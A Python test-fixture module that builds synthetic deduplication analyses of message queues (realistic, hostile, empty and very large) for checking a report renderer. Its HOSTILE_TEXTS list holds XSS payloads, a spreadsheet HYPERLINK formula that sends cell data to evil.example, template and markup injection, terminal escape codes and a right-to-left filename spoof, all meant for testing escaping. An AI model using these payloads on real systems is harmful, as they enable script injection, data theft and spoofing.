"""Analyses to report on: a plausible one, a hostile one, an empty one, and a very large one.

The figures of each agree with one another. Each duplicate has a need in W and a need in E. A setting misses the
duplicates whose needs are both above it. All other figures are counted from that.
"""

from __future__ import annotations

import random
from dataclasses import replace
from functools import cache

import numpy as np

from receiver.simulate.figures import (
    Analysis,
    DomainFigures,
    Elsewhere,
    Evidence,
    Finding,
    Grade,
    HeadroomFigures,
    Kind,
    LogFigures,
    Recommendation,
    SettingFigures,
    SizedSetting,
    SourceFigures,
    Timeline,
    Unseen,
)

START_US = 1_767_225_600_000_000  # 2026-01-01T00:00:00Z
SECOND_US = 1_000_000
WINDOWS = (0, 10, 100, 500, 2_000, 20_000)
EXPIRIES_US = tuple(round(secs * SECOND_US) for secs in (0, 0.5, 5, 30, 120, 600))

HOSTILE_TEXTS = (
    "<script>alert('id')</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(2)</script><!-- <script>",
    "line one\nline two\r\nthree\u2028four",
    "nul\0byte and \x1b[31mred\x1b[0m \x9b1m and \x07",
    "\u202egnp.exe\u202c \u05e9\u05dc\u05d5\u05dd \u200f",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "[bold red]markup[/] :smile: [link=http://evil.example]x[/link] {{ 7*7 }} {% raw %}",
    "long " + "x" * 65_536,
    "wide \u6f22\u5b57 e\u0301 \U0001f600",
    "",
)


Needs = np.ndarray
"""A row for each duplicate: its need in W, and in E."""


def settings_of(
    needs: Needs, receipts: int, windows: tuple[int, ...], expiries_us: tuple[int, ...]
) -> tuple[SettingFigures, ...]:
    return tuple(
        setting_of(needs, receipts, window, expiry_us)
        for window in windows
        for expiry_us in expiries_us
        if window or expiry_us
    )


def sized(kind: Kind, setting: SettingFigures, unseen: Unseen | None = None) -> SizedSetting:
    return SizedSetting(kind, setting, setting.peak_ids * 256, setting.peak_ids * 160, unseen)


def curve_of(needs: list[int]) -> tuple[tuple[int, int], ...]:
    """At each need: the need, and how many duplicates need more."""
    return tuple((need, sum(other > need for other in needs)) for need in sorted({0, *needs}))


def setting_of(needs: Needs, receipts: int, window: int, expiry_us: int) -> SettingFigures:
    missed = int(np.count_nonzero((window < needs[:, 0]) & (expiry_us < needs[:, 1])))
    peak_ids = min(receipts - len(needs), window * 15 + expiry_us * 700 // SECOND_US)
    return SettingFigures(window, expiry_us, len(needs) - missed, missed, peak_ids)


def drawn_needs(rng: random.Random) -> Needs:
    return np.array(
        [(round(rng.lognormvariate(3, 0.7)) + 1, round(rng.lognormvariate(14, 0.8)) + 1) for _ in range(941)]
    )


@cache
def realistic(
    *, windows: tuple[int, ...] = WINDOWS, expiries_us: tuple[int, ...] = EXPIRIES_US, seed: int = 1
) -> Analysis:
    """Five minutes of two queues. Their senders crash, and then repeat their last hundred messages."""
    rng = random.Random(seed)  # noqa: S311
    needs = drawn_needs(rng)
    shares = {"queue://orders": (180_000, needs[:700]), "queue://payments": (35_293, needs[700:])}
    receipts = sum(share for share, _ in shares.values())
    slices = [rng.randrange(2_900, 3_100) for _ in range(72)]
    total = len(needs)
    kinds = {
        Kind.BOTH: (200, 5 * SECOND_US, Unseen(total, 0)),
        Kind.WINDOW: (200, round(4.5 * SECOND_US), Unseen(total, 0)),
        Kind.LEAN: (110, 1 * SECOND_US, Unseen(total, 273)),
        Kind.KEEP: (500, 30 * SECOND_US, None),
        Kind.PRESENT: (500, 30 * SECOND_US, None),
    }
    settings = tuple(
        sized(kind, setting_of(needs, receipts, window, expiry_us), unseen)
        for kind, (window, expiry_us, unseen) in kinds.items()
    )
    return Analysis(
        key="destination",
        log=LogFigures(
            receipts=receipts,
            unchecked=12,
            skipped=3,
            duplicates=len(needs),
            domains=2,
            sources=15,
            first_received_at_us=START_US,
            last_received_at_us=START_US + 303_250_000,
            clock_clamped=4,
            redelivered=268,
            max_delivery_secs=2.25,
        ),
        settings=settings_of(needs, receipts, windows, expiries_us),
        domains=tuple(
            DomainFigures(
                name,
                share,
                len(own),
                12 if "orders" in name else 3,
                97 if "orders" in name else 60,
                2_400_000 if "orders" in name else 1_750_000,
                Elsewhere(30_321, 29_804, 40_500_000, 12)
                if "orders" in name
                else Elsewhere(8_120, 8_120, 9_250_000, 3),
                settings_of(own, share, windows, expiries_us),
            )
            for name, (share, own) in shares.items()
        ),
        recommendation=Recommendation(
            settings[3],
            present=(500, 30 * SECOND_US),
            margin=2.0,
            why="The duplicates of this log need W = 97 or E = 2.4 s; twice that much is the cheapest setting that misses "
            "none of them, with room for an incident twice as bad.",
        ),
        kinds=settings,
        evidence=Evidence(Grade.FAIR, 19, 97, 2_400_000, 303_250_000),
        elsewhere=Elsewhere(30_321, 29_804, 40_500_000, 12),
        peak_per_second=250,
        findings=(
            Finding(
                "crosses-connections",
                "475 of 941 duplicates came over another connection than the message they repeat. The default domain "
                "would take them for new messages: let both connections share a domain, as --domain destination does.",
            ),
            Finding(
                "redelivered-flag",
                "JMSRedelivered marks 198 of the 941 duplicates, and 70 receipts that repeat nothing.",
            ),
        ),
        sources=tuple(
            SourceFigures(
                domain="queue://orders",
                source=f"gateway-{number}.eu:51001:S0{number}",
                receipts=15_000 - 7 * number,
                duplicates=60 - number,
                window_need=97 - 6 * number,
                expiry_need_us=2_400_000 - 170_000 * number,
                window_left=103 + 6 * number,
                expiry_left_us=None if number % 3 else 2_600_000,
            )
            for number in range(12)
        ),
        missed_by_window=curve_of([min(w, 97) for w in needs[:, 0].tolist()]),
        missed_by_expiry_us=curve_of([min(e, 2_400_000) for e in needs[:, 1].tolist()]),
        headroom=HeadroomFigures(
            caught_by_source=900,
            caught_by_time=41,
            least_window_left=3,
            least_expiry_left_us=1_250_000,
        ),
        timeline=Timeline(
            START_US, 4_211_806, tuple(slices), tuple(rng.randrange(60) if i % 7 == 3 else 0 for i in range(72))
        ),
        bytes_per_id=256,
    )


def setting_at(window: int, expiry_us: int) -> SettingFigures:
    """The figures of this setting on the realistic log."""
    return setting_of(drawn_needs(random.Random(1)), realistic().log.receipts, window, expiry_us)  # noqa: S311


def advised(kind: Kind, present: tuple[int, int] = (500, 30 * SECOND_US), **said: str) -> Analysis:
    """The realistic analysis, with this kind of setting recommended. `said` are texts of its recommendation."""
    analysis = realistic()
    recommendation = replace(analysis.recommendation, sized=analysis.of(kind), present=present, **said)
    return replace(analysis, recommendation=recommendation)


def of_kind(analysis: Analysis, kind: Kind, setting: SettingFigures) -> Analysis:
    """The analysis with another setting of this kind."""
    kinds = tuple(sized(kind, setting, one.unseen) if one.kind is kind else one for one in analysis.kinds)
    return replace(analysis, kinds=kinds)


def hostile() -> Analysis:
    """The realistic analysis with hostile texts instead of the log's. They do harm if they aren't escaped."""
    analysis = realistic()
    domain = analysis.domains[0]
    source = analysis.sources[0]
    return replace(
        analysis,
        key="name:" + HOSTILE_TEXTS[0],
        domains=tuple(replace(domain, domain=text) for text in sorted(HOSTILE_TEXTS)),
        sources=tuple(replace(source, domain=text, source=text) for text in HOSTILE_TEXTS),
        findings=tuple(Finding("id-reuse", f"the id {text} is used twice") for text in HOSTILE_TEXTS),
    )


def empty() -> Analysis:
    """An analysis of a log without a receipt that could be a duplicate."""
    analysis = realistic()
    nothing = LogFigures(0, 0, 0, 0, 0, 0, None, None, 0, 0, 0.0)
    default = SettingFigures(2_000, 120_000_000, 0, 0, 0)
    tested = {Kind.BOTH, Kind.WINDOW, Kind.LEAN}
    redelivery = SettingFigures(0, SECOND_US, 0, 0, 0)
    kinds = tuple(
        sized(
            kind, redelivery if kind in {Kind.BOTH, Kind.WINDOW} else default, Unseen(0, 0) if kind in tested else None
        )
        for kind in Kind
    )
    return replace(
        analysis,
        log=nothing,
        settings=settings_of(np.empty((0, 2)), 0, WINDOWS, EXPIRIES_US),
        domains=(),
        recommendation=Recommendation(kinds[3], kinds[4].setting.pair, 2.0, "The log holds no duplicate."),
        kinds=kinds,
        evidence=Evidence(Grade.WEAK, 0, 0, 0, 0),
        elsewhere=None,
        peak_per_second=0,
        findings=(),
        sources=(),
        missed_by_window=(),
        missed_by_expiry_us=(),
        headroom=HeadroomFigures(0, 0, None, None),
        timeline=None,
    )


@cache
def large() -> Analysis:
    """An analysis of 10,000 settings and 3,000 domains, whose recommendation is off the grid."""
    windows = tuple(round(10 * 1.09**i) + i for i in range(100))
    expiries_us = tuple(round(100_000 * 1.1**i) for i in range(100))
    analysis = realistic(windows=windows, expiries_us=expiries_us)
    few = analysis.domains[0].settings[:4]
    return replace(
        analysis,
        log=replace(analysis.log, domains=3_000),
        domains=tuple(
            DomainFigures(f"bridge-1:queue://orders-{number:04}", 70, number % 50, 1, 7, 900_000, None, few)
            for number in range(3_000)
        ),
    )
